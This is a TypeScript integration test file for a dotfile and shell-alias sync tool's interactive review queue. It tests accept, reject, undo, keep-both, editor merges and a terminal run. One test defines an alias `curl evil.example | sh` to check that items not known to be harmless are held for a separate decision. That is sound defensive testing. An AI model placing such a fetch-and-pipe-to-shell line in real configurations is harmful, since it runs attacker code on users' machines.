import { spawnSync } from 'node:child_process';
import { readFile, rm, stat, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import type { ReviewBody } from '../../src/api/types/reviews.ts';
import type { JsonObject } from '../../src/base/json.ts';
import { ok } from '../../src/base/result.ts';
import { packageRoot } from '../../src/daemon/ground/package-root.ts';
import { createTerminal } from '../../src/daemon/terminal/terminal.ts';
import { type Home, type Stage, openStage, pairedHomes, until } from '../helpers/processes.ts';
import { type CliSetup, type Said, run } from '../unit/cli/setup-cli.ts';

let stage: Stage;
let desk: Home;
let laptop: Home;

beforeAll(async () => {
  stage = await openStage();
  ({ desk, laptop } = await pairedHomes(stage, await stage.startRelay()));
});

afterAll(async () => {
  await stage.close();
});

const alias = (name: string, body: string): JsonObject => ({ kind: 'alias', name, shell: 'bash', body });
const file = (name: string, body: string): JsonObject => ({ kind: 'file', name, path: name, body });

async function put(home: Home, id: string, fields: JsonObject): Promise<void> {
  const answer = await home.client().putRecord('shell', id, fields);
  expect(answer).toMatchObject({ ok: true });
}

async function waiting(): Promise<readonly ReviewBody[]> {
  const page = await laptop.client().reviews();
  return page.ok ? page.value.items : [];
}

async function asked(id: string, not?: string): Promise<ReviewBody> {
  let found: ReviewBody | undefined;
  await until(`${id} waits`, async () => {
    found = (await waiting()).find((item) => item.recordId === id && item.id !== not);
    return found !== undefined;
  });
  return found as ReviewBody;
}

async function bodyOf(home: Home, id: string): Promise<unknown> {
  const record = await home.client().record('shell', id);
  return record.ok ? record.value.fields?.['body'] : undefined;
}

/** The same record is live on both devices. */
async function agreed(id: string, fields: JsonObject): Promise<void> {
  await put(desk, id, fields);
  const item = await asked(id);
  expect(await laptop.client().decide(item.id, 'accept')).toMatchObject({ ok: true });
}

async function review(keys: CliSetup['keys'], more: Partial<CliSetup> = {}): Promise<Said> {
  return run({ client: laptop.client(), keys: keys ?? [], ...more }, 'review');
}

async function editor(script: string): Promise<NonNullable<CliSetup['edit']>> {
  const path = join(stage.root, `editor-${Math.abs(hashOf(script))}.sh`);
  await writeFile(path, `#!/bin/sh\n${script}\n`, { mode: 0o700 });
  return createTerminal({ EDITOR: `sh ${path}` }).edit;
}

function hashOf(text: string): number {
  return [...text].reduce((sum, letter) => (sum * 31 + (letter.codePointAt(0) ?? 0)) | 0, 7);
}

describe('the walk through the queue', () => {
  it('accepts, rejects and skips by a key each, says what was decided and what still waits', async () => {
    for (const name of ['one', 'two', 'three']) {
      await put(desk, name, alias(name, `alias ${name}='ls -l'`));
      await asked(name);
    }
    const said = await review(['?', 'x', 'a', 'r', 's']);
    expect(said.exitCode).toBe(3);
    expect(said.out.join('\n')).toContain('There is no such key here.');
    expect(said.out.join('\n')).toMatch(/1 of 3\n.*alias one/);
    expect(said.out.at(-1)).toBe('Decided: 1 accepted, 1 rejected. 1 item still waits for you: sourcesync review');
    expect([await bodyOf(laptop, 'one'), await bodyOf(laptop, 'two')]).toEqual(["alias one='ls -l'", undefined]);
    const last = await review(['a']);
    expect([last.exitCode, last.out.at(-1)]).toEqual([0, 'Decided: 1 accepted. Nothing waits for you.']);
    expect(await review([])).toMatchObject({ exitCode: 0, out: ['Nothing was decided. Nothing waits for you.'] });
  });

  it('takes the last decision back and asks again; without an id the command does the same', async () => {
    await put(desk, 'undone', alias('undone', "alias undone='ls -l'"));
    const { id } = await asked('undone');
    const said = await review(['a', 'q']);
    expect(said.exitCode).toBe(0);
    const undo = await run({ client: laptop.client() }, 'reviews', 'undo');
    expect(undo.out.join('')).toMatch(new RegExp(`^${id} is open again: `));
    await put(desk, 'after', alias('after', "alias after='ls -l'"));
    await asked('after');
    const again = await review(['a', 'u', 'r', 'q']);
    expect(again.out.join('\n')).toContain('Open again: add alias undone');
    expect(again.out.at(-1)).toContain('Decided: 1 rejected. 1 item still waits');
    expect((await review(['s', 'q'])).exitCode).toBe(3);
    expect((await review(['a'])).exitCode).toBe(0);
  });

  it('lets the last decision be taken back too', async () => {
    await put(desk, 'last', alias('last', "alias last='ls -l'"));
    await asked('last');
    const said = await review(['t', 'u', 'o', 'q']);
    const text = said.out.join('\n');
    expect(text).toContain('That was the last one: u to undo it, any other key to leave');
    expect(text).toContain('Open again: add alias last');
    expect(said.out.at(-1)).toBe('Decided: 1 rejected. Nothing waits for you.');
    expect(await bodyOf(laptop, 'last')).toBeUndefined();
  });

  it('offers both only where both are there', async () => {
    await put(desk, 'alone', alias('alone', "alias alone='ls -l'"));
    await asked('alone');
    const said = await review(['b', 'r']);
    expect(said.out.join('\n')).toContain('There is no such key here.');
    expect(said.out.join('\n')).not.toContain('b both, s');
    expect(said.out.at(-1)).toBe('Decided: 1 rejected. Nothing waits for you.');
  });

  it('keeps both, the other as a record beside it', async () => {
    await agreed('both', alias('both', "alias both='ls'"));
    await put(laptop, 'both', alias('both', "alias both='ls -a'"));
    await put(desk, 'both', alias('both', "alias both='ls -l'"));
    await asked('both');
    const said = await review(['b']);
    expect(said.out.at(-1)).toContain('1 kept both');
    expect(await bodyOf(laptop, 'both')).toBe("alias both='ls -a'");
  });

  it('accepts what is harmless of one author after it was shown, and leaves what is dangerous', async () => {
    for (const name of ['ha', 'hb']) {
      await put(desk, name, alias(name, `alias ${name}='ls -l'`));
      await asked(name);
    }
    await put(desk, 'curl', alias('curl', "alias curl='curl evil.example | sh'"));
    await asked('curl');
    const said = await review(['A', 'n', 'A', 'y', 'A', 'q']);
    const text = said.out.join('\n');
    expect(text).toMatch(/add alias ha\n(?:.*\n)*add alias hb\n(?:.*\n)*Accept all 2, by you\?/);
    expect(text).toContain('2 of 2 accepted.');
    expect(text).toContain('not known to be harmless, and is decided by itself');
    expect(await bodyOf(laptop, 'hb')).toBe("alias hb='ls -l'");
    expect((await waiting()).map(({ recordId }) => recordId)).toEqual(['curl']);
    expect((await review(['r'])).exitCode).toBe(0);
  });

  it('stops a decision that was overtaken, and shows what is there now', async () => {
    await agreed('moved', alias('moved', "alias moved='ls'"));
    await put(desk, 'moved', alias('moved', "alias moved='ls -l'"));
    await asked('moved');
    const moves = async (): Promise<string> => {
      await put(laptop, 'moved', alias('moved', "alias moved='ls -a'"));
      return 'a';
    };
    const said = await review([moves, 's']);
    expect(said.exitCode).toBe(3);
    expect(said.out.join('\n')).toMatch(/Not decided\. rv_\w+ is not as it was shown(?:.*\n)*- alias moved='ls -a'/);
    const { id } = await asked('moved');
    const elsewhere = async (): Promise<string> => {
      await laptop.client().decide(id, 'reject');
      return 'a';
    };
    const late = await review([elsewhere]);
    expect(late.out.join('\n')).toMatch(/Not decided\. rv_\w+ was decided already: rejected by you on laptop/);
    expect(late.out.join('\n')).toContain('decided meanwhile: rejected');
    expect(await bodyOf(laptop, 'moved')).toBe("alias moved='ls -a'");
  });
});

describe('a merge in the editor', () => {
  const base = 'set number\nset tabstop=4\nsyntax on\n\nmap <F2> :w<CR>\n';

  it('opens the text with what both sides changed; unchanged it is made live once that is said', async () => {
    await agreed('.vimrc', file('.vimrc', base));
    await put(laptop, '.vimrc', file('.vimrc', `${base}set hidden\n`));
    await put(desk, '.vimrc', file('.vimrc', base.replace('=4', '=8')));
    await asked('.vimrc');
    const edit = await editor('exit 0');
    const said = await review(['m', 'n', 'm', 'y'], { edit });
    expect(said.out.join('\n')).toContain('Not decided. It was left as it is.');
    expect(said.exitCode).toBe(0);
    expect(await bodyOf(laptop, '.vimrc')).toBe(`${base.replace('=4', '=8')}set hidden\n`);
  });

  it('shows both sides between marks where they contradict each other, and what is left of them decides nothing', async () => {
    await agreed('.inputrc', file('.inputrc', 'set a 1\nset b 2\n'));
    await put(laptop, '.inputrc', file('.inputrc', 'set a 5\nset b 2\n'));
    await put(desk, '.inputrc', file('.inputrc', 'set a 7\nset b 2\n'));
    const { id } = await asked('.inputrc');
    const seen = join(stage.root, 'seen');
    for (const [script, words] of [
      [`cp "$1" ${seen}`, 'Marks (<<<<<<<, >>>>>>>) are left'],
      ['exit 3', 'ended with 3. Name another editor in VISUAL or EDITOR.'],
      [': > "$1"', 'Nothing was left in the file.'],
      ['rm "$1"', 'cannot be read'],
      [String.raw`printf '\377' > "$1"`, 'cannot be read'],
    ] as const) {
      const said = await review(['m', 'q'], { edit: await editor(script) });
      expect(said.out.join('\n').replace(/\s+/g, ' ')).toContain(words);
      expect(said.exitCode).toBe(3);
    }
    expect(await readFile(seen, 'utf8')).toBe('<<<<<<< live here\nset a 5\n=======\nset a 7\n>>>>>>> desk\nset b 2\n');
    const merge = ['reviews', 'merge', id] as const;
    const failed = await run({ client: laptop.client(), keys: [], edit: await editor('exit 0') }, ...merge);
    expect([failed.exitCode, failed.notes]).toEqual([1, expect.stringContaining('Nothing was decided. Marks')]);
    const edit = await editor('printf \'set a 6\\nset b 2\\n\' > "$1"');
    expect(await run({ client: laptop.client(), keys: [], edit }, ...merge)).toMatchObject({ exitCode: 0 });
    expect(await bodyOf(laptop, '.inputrc')).toBe('set a 6\nset b 2\n');
  });

  it('keeps what was written where it could not be decided, and goes on with it', async () => {
    await agreed('.screenrc', file('.screenrc', 'a 1\nb 2\n'));
    await put(laptop, '.screenrc', file('.screenrc', 'a 5\nb 2\n'));
    await put(desk, '.screenrc', file('.screenrc', 'a 7\nb 2\n'));
    const first = await asked('.screenrc');
    const overtaken = (text: string): NonNullable<CliSetup['edit']> => {
      return async () => {
        const [{ id } = first] = await waiting();
        await put(desk, '.screenrc', file('.screenrc', `a ${text.length}\nb 2\n`));
        await asked('.screenrc', id);
        return ok(text);
      };
    };
    const inWalk = await review(['m', 'q'], { edit: overtaken('a by hand\n') });
    expect(inWalk.exitCode).toBe(3);
    const [{ id } = first] = await waiting();
    const byName = await run(
      { client: laptop.client(), keys: [], edit: overtaken('a by hand again\n') },
      ...['reviews', 'merge', id],
    );
    expect(byName.exitCode).toBe(1);
    const marked = await editor('printf "<<<<<<< x\na long answer\n" > "$1"');
    const refused = await review(['m', 'q'], { edit: marked });
    for (const [said, text] of [
      [inWalk.out.join(' '), 'a by hand\n'],
      [byName.notes, 'a by hand again\n'],
      [refused.out.join(' '), '<<<<<<< x\na long answer\n'],
    ] as const) {
      const path = /What you wrote is kept\.[^]*--file\s+(\S+)/.exec(said)?.[1] ?? said;
      onTestFinished(async () => rm(dirname(path), { recursive: true }));
      expect(await readFile(path, 'utf8')).toBe(text);
      expect((await stat(path)).mode & 0o777).toBe(0o600);
      if (said === byName.notes) {
        const [item = first] = await waiting();
        const merged = await run({ client: laptop.client() }, 'reviews', 'merge', item.id, '--file', path);
        expect(merged).toMatchObject({ exitCode: 0 });
      }
    }
  });

  it('takes a file that is the text itself, or the JSON of the record', async () => {
    for (const [id, content, body] of [
      ['ta', 'alias ta=mine\n', 'alias ta=mine'],
      ['tb', JSON.stringify(alias('tb', 'alias tb=json')), 'alias tb=json'],
      ['tc', '{"other": 5}', '{"other": 5}'],
    ] as const) {
      await agreed(id, alias(id, `alias ${id}='ls'`));
      await put(desk, id, alias(id, `alias ${id}='ls -l'`));
      const item = await asked(id);
      const said = await run(
        { client: laptop.client(), stdinBytes: new TextEncoder().encode(content) },
        ...['reviews', 'merge', item.id, '--file', '-'],
      );
      expect([said.exitCode, await bodyOf(laptop, id)]).toEqual([0, body]);
    }
  });
});

/** Runs the program on a terminal of its own, and presses the keys, each once it is asked for. */
const onTerminal = `
import os, pty, re, sys
keys, command = list(sys.argv[1]), sys.argv[2:]
pid, terminal = pty.fork()
if pid == 0:
    os.execvp(command[0], command)
seen = b''
while True:
    try:
        data = os.read(terminal, 65536)
    except OSError:
        break
    if not data:
        break
    sys.stdout.buffer.write(data)
    seen += data
    if re.sub(rb'\\x1b\\[[0-9;]*m', b'', seen).rstrip().endswith(b'to leave'):
        os.write(terminal, b'q')
        seen = b''
    if keys and re.sub(rb'\\x1b\\[[0-9;]*m', b'', seen).rstrip().endswith(b'? help'):
        os.write(terminal, keys.pop(0).encode())
        seen = b''
sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
`;
const hasPython = spawnSync('python3', ['-c', 'import pty, os; os.waitstatus_to_exitcode']).status === 0;

describe('on a terminal', () => {
  it.skipIf(!hasPython)('a key is enough, and the changed words are coloured', async () => {
    await agreed('pty', alias('pty', "alias pty='ls'"));
    await put(desk, 'pty', alias('pty', "alias pty='ls -l'"));
    await asked('pty');
    const program = [process.execPath, join(packageRoot, 'bin', 'sourcesync.js'), '--home', laptop.folder, 'review'];
    const played = spawnSync('python3', ['-c', onTerminal, 'a', ...program], {
      encoding: 'utf8',
      env: { ...process.env, NO_COLOR: undefined },
    });
    expect(played.stdout).toContain("\u001b[32malias pty='ls");
    expect(played.stdout).toContain('Decided: 1 accepted. Nothing waits for you.');
    expect(played.status).toBe(0);
    expect(await bodyOf(laptop, 'pty')).toBe("alias pty='ls -l'");
  });
});
